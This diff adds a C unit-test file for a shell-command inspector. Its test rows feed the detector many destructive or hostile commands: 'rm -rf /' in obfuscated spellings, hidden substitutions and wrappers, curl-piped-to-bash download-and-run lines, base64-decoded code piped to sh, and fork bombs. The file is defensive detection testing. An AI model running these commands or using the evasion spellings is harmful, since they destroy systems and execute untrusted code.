@@ -1,0 +1,351 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * The shell inspector: commands found however they are spelled and wherever they hide, text that is no command, words
+ * folded from constants, strict mode, the entrance for other languages, and bounds on hostile text.
+ * What bash really runs is compared in tests/shell-generator.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "base/str.h"
+#include "inspect/judge.h"
+
+static struct rule_set *rules;
+
+static struct findings inspect(const char *text, size_t len, enum trust trust, bool strict)
+{
+	struct inspect_request req = { .kind = INSPECT_SHELL, .trust = trust, .text = text, .len = len,
+				       .strict_commands = strict };
+	struct findings found = { 0 };
+
+	assert_int_equal(inspect_text(rules, &req, &found, NULL), 0);
+	return found;
+}
+
+static const struct finding *by_rule(const struct findings *f, const char *rule)
+{
+	for (size_t i = 0; i < f->n; i++)
+		if (str_eq(f->row[i].rule, rule))
+			return &f->row[i];
+	return NULL;
+}
+
+struct row {
+	const char *rule; /* NULL: nothing above MEDIUM */
+	const char *code;
+};
+
+static void check_rows(const struct row *row, size_t n)
+{
+	for (size_t i = 0; i < n; i++) {
+		struct findings f = inspect(row[i].code, strlen(row[i].code), TRUST_UNKNOWN, false);
+		bool right = row[i].rule ? by_rule(&f, row[i].rule) != NULL : f.worst <= SEVERITY_MEDIUM;
+
+		if (!right)
+			print_error("wanted %s, worst is %s (%s):\n%s\n", row[i].rule ? row[i].rule : "nothing",
+				    severity_name[f.worst], f.n ? f.row[0].rule : "no finding", row[i].code);
+		findings_release(&f);
+		assert_true(right);
+	}
+}
+
+#define TREE "sh-delete-tree"
+#define CHECK(rows) check_rows(rows, ARRAY_LEN(rows))
+
+static void test_spellings(void **state)
+{
+	static const struct row rows[] = {
+		{ TREE, "rm -rf /" },		   { TREE, "rm -r -f -- /" },	     { TREE, "r''m -rf /" },
+		{ TREE, "r\\m -rf /" },		   { TREE, "$'\\x72\\155' -rf /" },  { TREE, "$\"rm\" -rf /" },
+		{ TREE, "r\\\nm -rf /" },	   { TREE, "{rm,-rf,/}" },	     { TREE, "rm${IFS}-rf${IFS}/" },
+		{ TREE, "r$@m -rf /" },		   { TREE, "r${none}m -rf /" },	     { TREE, "/usr/bin/rm -rf /" },
+		{ TREE, "rm -rf //./etc/../" },	   { TREE, "rm -rf $HOME" },	     { TREE, "rm -rf \"$X\"/" },
+		{ TREE, "rm --recur --for /" },	   { "sh-globbed-command", "/bin/r? -rf /" }, { TREE, "cd / && rm -rf *" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_folding(void **state)
+{
+	static const struct row rows[] = {
+		{ TREE, "a=r; a+=m; $a -rf /" },
+		{ TREE, "a=(rm -rf /); \"${a[@]}\"" },
+		{ TREE, "a=(x rm); ${a[1]} -rf /" },
+		{ TREE, "set -- rm -rf /; \"$@\"" },
+		{ TREE, "IFS=,; a=rm,-rf,/; $a" },
+		{ TREE, "x=rm; y=x; ${!y} -rf /" },
+		{ TREE, "declare -n r=x; x=rm; $r -rf /" },
+		{ TREE, "x=RM; ${x,,} -rf /" },
+		{ TREE, "x=xrm; ${x#x} -rf /" },
+		{ TREE, "x=a/rm; ${x##*/} -rf /" },
+		{ TREE, "x=rXm; ${x/X/} -rf /" },
+		{ TREE, "x=abrmcd; ${x:2:2} -rf /" },
+		{ TREE, "${x:-rm} -rf /" },
+		{ TREE, "$(printf 'r%s' m) -rf /" },
+		{ TREE, "$(echo mr | rev) -rf /" },
+		{ TREE, "$(echo cm0= | base64 -d) -rf /" },
+		{ TREE, "$(echo 726d | xxd -r -p) -rf /" },
+		{ TREE, "$(echo sn | tr sn rm) -rf /" },
+		{ TREE, "read x <<< rm; $x -rf /" },
+		{ TREE, "printf -v x rm; $x -rf /" },
+		{ TREE, "if y; then c=rm; else c=ls; fi; $c -rf /" },
+		{ TREE, "for d in a /etc b; do rm -rf $d; done" },
+		{ TREE, "f() { \"$@\"; }; f rm -rf /" },
+		{ TREE, "f() { local x=$1; rm -rf $x; }; f /" },
+		{ TREE, "f() { echo rm; }; $(f) -rf /" },
+		{ NULL, "d=build; rm -rf $d" },
+		{ NULL, "a=ls; $a" },
+		{ "sh-dynamic-command", "$1 x" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_places(void **state)
+{
+	static const struct row rows[] = {
+		{ TREE, "echo \"$(rm -rf /)\"" },
+		{ TREE, "echo ${x:-`rm -rf /`}" },
+		{ TREE, "echo ${x#$(rm -rf /)}" },
+		{ TREE, "echo ${x/a/$(rm -rf /)}" },
+		{ TREE, "echo ${x:$(rm -rf /):1}" },
+		{ TREE, "echo `echo \\`rm -rf /\\``" },
+		{ TREE, "cat <<E\n$(rm -rf /)\nE" },
+		{ TREE, "cat << 'A' << B\n$(ls)\nA\n$(rm -rf /)\nB" },
+		{ TREE, "cat <<E\n\\\nE\nrm -rf /" },
+		{ TREE, "(( a[$(rm -rf /)] ))" },
+		{ TREE, "echo $[ $(rm -rf /) ]" },
+		{ TREE, "((rm -rf /); ls)" },
+		{ TREE, "let 'a[$(rm -rf /)]=1'" },
+		{ TREE, "[[ -v 'a[$(rm -rf /)]' ]]" },
+		{ TREE, "[[ x =~ $(rm -rf /) ]]" },
+		{ TREE, "case x in $(rm -rf /)) ;; esac" },
+		{ TREE, "echo \"$(case x in x) rm -rf / ;; esac)\"" },
+		{ TREE, "coproc X { rm -rf /; }" },
+		{ TREE, "diff <(rm -rf /) x" },
+		{ TREE, "true 2> \"$(rm -rf /)\"" },
+		{ TREE, "x[$(rm -rf /)]=1" },
+		{ TREE, "a='b[$(rm -rf /)]'; (( a ))" },
+		{ TREE, "a='$(rm -rf /)'; echo ${a@P}" },
+		{ TREE, "PS4='$(rm -rf /)'; set -x" },
+		{ TREE, "trap 'rm -rf /' EXIT" },
+		{ TREE, "alias x='rm -rf'; x /" },
+		{ TREE, "echo a#b; rm -rf /" },
+		{ TREE, "!(rm -rf /)" },
+		{ TREE, "{ sh; } <<E\nrm -rf /\nE" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_wrappers(void **state)
+{
+	static const struct row rows[] = {
+		{ TREE, "sudo -n env A=1 timeout -k 1 5 nice -n 3 rm -rf /" },
+		{ TREE, "env -S 'rm -rf' /" },
+		{ TREE, "exec -a foo rm -rf /" },
+		{ TREE, "echo / | xargs rm -rf" },
+		{ TREE, "xargs -I{} rm -rf {} <<< /" },
+		{ TREE, "find / -exec rm -rf {} +" },
+		{ TREE, "find . -exec sh -c 'rm -rf /' \\;" },
+		{ TREE, "busybox sh -c 'rm -rf /'" },
+		{ TREE, "su root -c 'rm -rf /'" },
+		{ TREE, "flock l -c 'rm -rf /'" },
+		{ TREE, "ssh -oProxyCommand='rm -rf /' x" },
+		{ TREE, "git -c alias.x='!rm -rf /' x" },
+		{ TREE, "vim -es +':!rm -rf /' +q" },
+		{ TREE, "tar cf x y --checkpoint-action=exec='rm -rf /'" },
+		{ TREE, "awk 'BEGIN{\"rm -rf /\" | getline}'" },
+		{ TREE, "sed '1e rm -rf /' f" },
+		{ TREE, "perl -e 'system(\"rm -rf /\")'" },
+		{ TREE, "make SHELL='rm -rf /'" },
+		{ TREE, "sh -c 'rm -rf \"$1\"' sh /" },
+		{ TREE, "sh -c '$0 -rf /' rm" },
+		{ TREE, "bash -o errexit -ec 'rm -rf /'" },
+		{ NULL, "command -v rm" },
+		{ NULL, "find . -name '*.o' | xargs rm -f" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_code_as_data(void **state)
+{
+	static const struct row rows[] = {
+		{ TREE, "eval \"eval 'rm -rf /'\"" },
+		{ TREE, "echo cm0gLXJmIC8= | base64 -d | sh" },
+		{ TREE, "bash <<< \"rm -rf /\"" },
+		{ TREE, "cat <<'E' | sh\nrm -rf /\nE" },
+		{ TREE, "echo 'rm -rf /' > a; sh a" },
+		{ TREE, "cat > a <<'E'\nrm -rf /\nE\n. ./a" },
+		{ TREE, ". <(echo rm -rf /)" },
+		{ "sh-dynamic-code", "eval \"$1\"" },
+		{ "sh-dynamic-code", "tool | sh" },
+		{ "sh-decoded-code", "base64 -d f | sh" },
+		{ "sh-downloaded-code", "curl x.test | sudo bash -s" },
+		{ "sh-downloaded-code", "{ curl x.test; } | sh" },
+		{ "sh-downloaded-code", "curl -O http://x.test/a.sh; sh ./a.sh" },
+		{ "sh-downloaded-code", "python3 <(curl http://x.test/a)" },
+		{ "sh-partly-dynamic-code", "sh -c \"ls $1\"" },
+		{ "sh-fork-bomb", ":(){ :|:& };:" },
+		{ "sh-fork-bomb", "a(){ b & }; b(){ a & }; a" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_harmless(void **state)
+{
+	static const struct row rows[] = {
+		{ NULL, "echo 'rm -rf /'" },
+		{ NULL, "# rm -rf /\nls" },
+		{ NULL, "grep -rn \"rm -rf /\" ." },
+		{ NULL, "git commit -m \"fix shutdown race\"" },
+		{ NULL, "cat > notes.md <<'EOF'\nNever run rm -rf / as root\nEOF" },
+		{ NULL, "s=hello; i=1; echo \"${s:$i:1}\"" },
+		{ NULL, "echo $(( (3 + 4) * 2 ))" },
+		{ NULL, "[[ $x =~ ^(a|b)c$ ]] && echo ok" },
+		{ NULL, "rm -rf ./build \"$TMPDIR/x\" /tmp/x" },
+		{ NULL, "f() { if [ $1 -gt 0 ]; then f $(( $1 - 1 )); fi; }; f 3" },
+		{ NULL, "for ((i=0;i<3;i++)); do echo ${a[i]}; done" },
+		{ NULL, "sed -e 's/e/E/g' -n f | awk -F, '$3 > 5 {print $1}'" },
+		{ NULL, "test -f /etc/passwd && echo yes" },
+		{ NULL, "head -c 2 /dev/urandom | xxd -p > /dev/null 2>&1" },
+		{ NULL, "case \"$1\" in start|stop) echo \"$1\";; *) echo usage;; esac" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_not_understood(void **state)
+{
+	static const struct row rows[] = {
+		{ "sh-syntax", "echo \"abc" },	   { "sh-syntax", "echo $(ls" },	   { "sh-syntax", "if true; then ls" },
+		{ "sh-syntax", "echo `ls" },	   { "sh-syntax", "ls )" },		   { "sh-syntax", "echo ${x" },
+		{ "too-deep", "$($($($($($($($($($(ls))))))))))" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void test_strict(void **state)
+{
+	static const struct {
+		const char *code, *rule;
+	} rows[] = {
+		{ "frobnicate", "sh-allowed" },
+		{ "cat \"$1\"", "sh-strict-dynamic" },
+		{ "ls | frobnicate", "sh-allowed" },
+	};
+	struct findings f;
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		f = inspect(rows[i].code, strlen(rows[i].code), TRUST_UNKNOWN, true);
+		assert_non_null(by_rule(&f, rows[i].rule));
+		findings_release(&f);
+		f = inspect(rows[i].code, strlen(rows[i].code), TRUST_UNKNOWN, false);
+		assert_null(by_rule(&f, rows[i].rule));
+		findings_release(&f);
+	}
+	f = inspect("ls -la | grep x", 15, TRUST_UNKNOWN, true);
+	assert_int_equal(f.n, 0);
+}
+
+/* A finding inside a script is placed at its command; inside another text at that text. */
+static void test_places_of_findings(void **state)
+{
+	static const char script[] = "ls\necho \"$(\n  rm -rf /\n)\"\n";
+	struct findings f = inspect(script, sizeof(script) - 1, TRUST_UNKNOWN, false);
+	const struct finding *hit = by_rule(&f, TREE);
+
+	(void)state;
+	assert_non_null(hit);
+	assert_int_equal(hit->line, 3);
+	assert_int_equal(hit->column, 3);
+	assert_int_equal(hit->span.end - hit->span.start, 8);
+	findings_release(&f);
+}
+
+static void test_argv(void **state)
+{
+	static const char *const words[] = { "sudo", "rm", "-rf", NULL };
+	static const bool literal[] = { true, true, true, false };
+	static const char *const root[] = { "sh", "-c", "rm -rf /" };
+	static const bool all[] = { true, true, true };
+	struct findings f = { 0 };
+	struct judge j = { .rules = rules, .language = RULE_PYTHON, .trust = TRUST_UNKNOWN, .text = "subprocess.run(x)", .len = 17,
+			   .out = &f, .steps_left = 100000 };
+
+	(void)state;
+	judge_argv(&j, words, literal, 4, (struct span){ 15, 16 });
+	assert_null(by_rule(&f, TREE));
+	assert_non_null(by_rule(&f, "sh-privilege"));
+	judge_argv(&j, root, all, 3, (struct span){ 15, 16 });
+	assert_non_null(by_rule(&f, TREE));
+	assert_int_equal(by_rule(&f, TREE)->span.start, 15);
+	assert_int_equal(j.language, RULE_PYTHON);
+	assert_false(j.nested);
+	findings_release(&f);
+}
+
+/* 250 KB of what opens and never closes: an answer, and never silence. */
+static void test_hostile(void **state)
+{
+	static const char *const units[] = { "(", "${", "`$(", "$(", "$((", "${a:-", "cat <<E\n$(", "case x in a) ", "\"$(", "{ ", "sudo ",
+					     "a[b ", "<(", "@(", "if ", "f(){ " };
+	static char text[250 * 1024];
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(units); i++) {
+		size_t n = strlen(units[i]);
+		struct findings f;
+
+		for (size_t k = 0; k < sizeof(text); k++)
+			text[k] = units[i][k % n];
+		f = inspect(text, sizeof(text), TRUST_UNKNOWN, false);
+		if (f.worst < SEVERITY_HIGH)
+			print_error("silent about %s\n", units[i]);
+		assert_true(f.worst >= SEVERITY_HIGH);
+		findings_release(&f);
+	}
+}
+
+static int set_up(void **state)
+{
+	(void)state;
+	return rules_builtin(&rules, NULL);
+}
+
+static int tear_down(void **state)
+{
+	(void)state;
+	rules_free(rules);
+	return 0;
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_spellings),	cmocka_unit_test(test_folding),	       cmocka_unit_test(test_places),
+		cmocka_unit_test(test_wrappers),	cmocka_unit_test(test_code_as_data),   cmocka_unit_test(test_harmless),
+		cmocka_unit_test(test_not_understood),	cmocka_unit_test(test_strict),	       cmocka_unit_test(test_places_of_findings),
+		cmocka_unit_test(test_argv),		cmocka_unit_test(test_hostile),
+	};
+
+	return cmocka_run_group_tests(tests, set_up, tear_down);
+}
